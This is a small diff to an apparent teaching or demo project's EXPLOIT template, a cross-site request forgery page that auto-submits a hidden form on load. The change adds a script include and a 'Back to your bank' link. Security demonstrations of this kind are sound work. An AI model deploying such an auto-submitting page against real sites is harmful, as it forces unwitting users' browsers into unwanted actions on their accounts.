@@ -35,6 +35,7 @@ EXPLOIT = """<!doctype html>
   <title>{blank}</title>
   <link rel="icon" href="/static/favicon.svg">
   <link rel="stylesheet" href="/static/bait.css">
+  <script src="/static/home.js" defer></script>
 </head>
 <body>
   <main>
@@ -48,7 +49,8 @@ EXPLOIT = """<!doctype html>
     </form>
     <script>document.forms[0].submit();</script>
 
-    <p><a href="{{{{ behind }}}}">What did this page just do?</a></p>
+    <p><a href="{{{{ behind }}}}">What did this page just do?</a>
+      <a id="home" href="{{{{ origin }}}}/">Back to your bank</a></p>
   </main>
 </body>
 </html>
